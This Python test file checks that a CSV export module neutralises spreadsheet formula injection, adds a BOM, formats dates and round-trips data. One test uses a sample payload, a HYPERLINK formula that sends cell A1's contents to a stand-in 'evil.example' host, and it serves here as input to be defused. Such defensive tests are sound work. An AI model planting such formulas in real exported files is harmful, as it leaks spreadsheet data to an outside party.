"""CSV files for Excel: neutralised formulas, a BOM, ISO dates, and a faithful round trip."""

from __future__ import annotations

import csv
import datetime as dt
import io

from hypothesis import given
from hypothesis import strategies as st

from portfolio.core.spreadsheet import (
    BOM,
    FORMULA_STARTS,
    cell,
    csv_bytes,
    filename,
    neutralise,
)

text = st.text(st.characters(codec="utf-8"), max_size=40)
dangerous = st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), text)
safe = text.filter(lambda value: not value.startswith(FORMULA_STARTS))
values = st.one_of(text, dangerous, st.none(), st.integers(0, 10**6), st.dates(), st.booleans())


@given(st.one_of(text, dangerous))
def test_no_neutralised_cell_starts_a_formula(value: str) -> None:
    assert not neutralise(value).startswith(FORMULA_STARTS)


@given(dangerous)
def test_a_dangerous_cell_keeps_its_text_after_a_single_quote(value: str) -> None:
    assert neutralise(value) == "'" + value


@given(safe)
def test_a_safe_cell_is_unchanged(value: str) -> None:
    assert neutralise(value) == value


@given(st.lists(st.lists(values, min_size=3, max_size=3), max_size=6))
def test_the_file_round_trips_through_the_csv_module(rows: list[list[object]]) -> None:
    header = ["Name", "=Sum", "Date"]
    data = csv_bytes(header, rows)  # type: ignore[arg-type]
    assert data.startswith(BOM.encode("utf-8"))
    read = list(csv.reader(io.StringIO(data.decode("utf-8").removeprefix(BOM), newline="")))
    assert read == [[cell(item) for item in header]] + [
        [cell(item) for item in row] for row in rows
    ]  # type: ignore[arg-type]
    for line in read:
        for item in line:
            assert not item.startswith(FORMULA_STARTS)


def test_cells_dates_numbers_and_blanks() -> None:
    assert cell(dt.date(2026, 3, 5)) == "2026-03-05"
    assert cell(12) == "12"
    assert cell(None) == ""
    assert cell(True) == "Yes"
    assert cell('=HYPERLINK("http://example.org","x")') == '\'=HYPERLINK("http://example.org","x")'
    assert cell("-1") == "'-1"
    assert cell("Siân O'Neill") == "Siân O'Neill"


def test_a_worker_called_hyperlink_stays_a_name_in_the_file() -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    data = csv_bytes(["Name"], [[name], ["@SUM(1+1)"], ["\tTabbed"], ["+44 7700"]])
    lines = data.decode("utf-8").removeprefix(BOM).split("\r\n")
    assert lines[1] == '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"'
    assert lines[2:5] == ["'@SUM(1+1)", "'\tTabbed", "'+44 7700"]


def test_the_file_name_is_plain_ascii_with_the_date() -> None:
    assert filename("competency-matrix", dt.date(2026, 3, 5)) == "competency-matrix-2026-03-05.csv"
